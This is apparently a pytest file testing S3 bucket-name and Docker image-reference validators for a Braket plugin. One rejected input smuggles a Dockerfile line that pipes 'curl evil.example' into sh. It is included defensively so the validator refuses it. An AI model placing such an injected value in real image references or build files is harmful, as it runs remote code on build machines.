"""S3 bucket names and image references: the services' own rules, each rule seen refusing a name."""

from __future__ import annotations

import pytest

from covalent_braket_plugin.validation import bucket_name_problem, is_image_reference


@pytest.mark.parametrize("name", ["abc", "amazon-braket-results", "a.b-c.d1", "a" * 63, "192.168.5.4x"])
def test_bucket_names_s3_accepts(name: str) -> None:
    assert bucket_name_problem(name) is None


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("ab", "3 to 63 characters"),
        ("a" * 64, "3 to 63 characters"),
        ("Results", "lowercase letter"),
        ("my_bucket", "lowercase letter"),
        ("bucket\n", "3 to 63 characters"),
        ("-bucket", "begins and ends with a letter or a digit"),
        ("bucket-", "begins and ends with a letter or a digit"),
        ("bucket.", "begins and ends with a letter or a digit"),
        ("a..b", "no two adjacent periods"),
        ("192.168.5.4", "not formatted as an IP address"),
        ("xn--bucket", "'xn--'"),
        ("sthree-bucket", "'sthree-'"),
        ("amzn-s3-demo-bucket", "'amzn-s3-demo-'"),
        ("bucket-s3alias", "'-s3alias'"),
        ("bucket--ol-s3", "'--ol-s3'"),
        ("bucket.mrap", "'.mrap'"),
        ("bucket--x-s3", "'--x-s3'"),
        ("bucket--table-s3", "'--table-s3'"),
    ],
)
def test_bucket_names_s3_refuses_say_why(name: str, problem: str) -> None:
    assert problem in (bucket_name_problem(name) or "")


@pytest.mark.parametrize(
    "reference",
    [
        "ubuntu",
        "python:3.12-slim",
        "library/python",
        "my_org/my__image-name.x",
        "localhost/image",
        "localhost:5000/team/base:v1.2",
        "registry.example.com:443/a/b/c:TAG_1",
        "[::1]:5000/image:tag",
        "ghcr.io/org/image@sha256:" + "a" * 64,
        "ghcr.io/org/image:tag@sha256:" + "A" * 64,
        "292282985366.dkr.ecr.us-east-1.amazonaws.com/amazon-braket-base-jobs:latest",
        "image:" + "t" * 128,
    ],
)
def test_image_references_docker_accepts(reference: str) -> None:
    assert is_image_reference(reference)


@pytest.mark.parametrize(
    "reference",
    [
        "",
        "python:3.12\nRUN curl evil.example | sh",  # a line break adds Dockerfile instructions
        "python:3.12\n",
        "python:3.12 AS builder",
        " python",
        "Ubuntu",  # repositories are lowercase
        "python:",
        "python:-tag",
        "python:" + "t" * 129,
        "image@sha256:abc",  # a digest has at least 32 hex digits
        "image@sha256:" + "g" * 64,
        "a//b",
        "a/-b",
        "a__-b",
        "-registry.example.com/image",
        "image:täg",  # tags are ASCII
        "registry.example.com/" + "a" * 256,
    ],
)
def test_image_references_docker_refuses(reference: str) -> None:
    assert not is_image_reference(reference)
